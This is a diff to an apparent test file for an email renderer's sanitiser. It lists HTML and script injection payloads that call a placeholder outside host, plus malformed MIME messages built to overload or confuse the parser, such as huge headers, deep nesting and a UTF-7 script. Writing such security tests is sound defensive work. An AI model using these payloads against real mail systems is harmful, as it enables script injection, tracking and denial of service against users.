@@ -25,7 +25,6 @@ RUN = "parent.pwned=top.pwned=1;alert(1);new Image().src='{out}/ran'"
 ATTEMPTS = {
     "script": f"<script>{RUN}</script>",
     "script from elsewhere": "<script src='{out}/a.js'></script>",
-    "script in odd case": f"<ScRiPt >{RUN}</sCrIpT\t>",
     "module script": "<script type=module>import '{out}/m.js'</script>",
     "event handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}">',
     "handlers that need no click": f'<details open ontoggle="{RUN}">x</details>'
@@ -51,7 +50,6 @@ ATTEMPTS = {
     "meta refresh in svg": "<svg><foreignObject><meta http-equiv=refresh content='0;url={out}/r'>",
     "meta policy": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src={out}/p>",
     "form": "<form action='{out}/form' method=post><input name=p value=1><button>x</button></form>",
-    "form by button": "<form id=f></form><button form=f formaction='{out}/f' formmethod=get>x</button>",
     "pictures": "<img src='{out}/1.png'><img srcset='{out}/2.png 1x'><picture><source srcset="
     "'{out}/3.png'><img></picture><input type=image src='{out}/4.png'><video poster='{out}/5.png'>"
     "</video><body background='{out}/6.png'><table background='{out}/7.png'><image src='{out}/8'>",
@@ -274,27 +272,20 @@ def nested_mail(depth: int) -> bytes:
 BROKEN = {
     "1,000 parts": boundary_mail(1000),
     "parts nested 2,000 deep": nested_mail(2000),
-    "parts nested 90 deep": nested_mail(90),
     "headers of 5 MB": b"Subject: long\r\nX-Long: " + b"=?utf-8?q?" * 500_000 + b"\r\n\r\nx\r\n",
     "5 MB of headers": b"Subject: many\r\n" + b"X-A: b\r\n" * 625_000 + b"\r\nx\r\n",
     "a subject of 5 MB": b"Subject: " + b"\xff" * 5_000_000 + b"\r\n\r\n",
-    "unknown charset": b"Content-Type: text/plain; charset=klingon\r\n\r\n\xe9t\xe9\r\n",
     "charset that is no text": b"Content-Type: text/html; charset=hex\r\n\r\nzz\r\n",
     "charset with a null": b"Content-Type: text/plain; charset=\"a\0b\"\r\n\r\nx\r\n",
     "utf-7": b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "utf-16 of odd length": b"Content-Type: text/html; charset=utf-16\r\n\r\n<\0b\0>",
     "broken base64": b"Content-Transfer-Encoding: base64\r\n\r\n!!!=A=\r\n",
-    "broken quoted-printable": b"Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\xff=\r\n",
     "broken uuencoding": b"Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 666 x\r\n\xff\r\n",
     "broken encoded words": b"Subject: =?utf-8?b?!!!?= =?x?q?=FF?= =?utf-8?q?=0D=0ABcc:x?=\r\n\r\n",
     "broken parameters": b"Content-Type: text/plain; name*0*=utf-8''%; name*2=x; =;;\r\n\r\nx",
-    "no headers at all": b"\r\n\r\n\r\n",
     "nothing but nulls": b"\0" * 10_000,
     "a boundary of nothing": b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\n--\r\n',
-    "no boundary": b"Content-Type: multipart/mixed\r\n\r\nx\r\n",
     "mail in mail in mail": b"Content-Type: message/rfc822\r\n\r\n" * 50 + b"Subject: in\r\n\r\nx",
-    "zip of nothing": b"Content-Type: application/zip; name=0.zip\r\nContent-Transfer-Encoding: base64"
-    b"\r\n\r\nUEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==\r\n",
     "html of 0.5 MB left open": b"Content-Type: text/html\r\n\r\n" + b"<img src='http://a.test/" * 20_000,
     "many tags left open": b"Content-Type: text/html\r\n\r\n" + b"<a href=" * 50_000,
 }  # fmt: skip
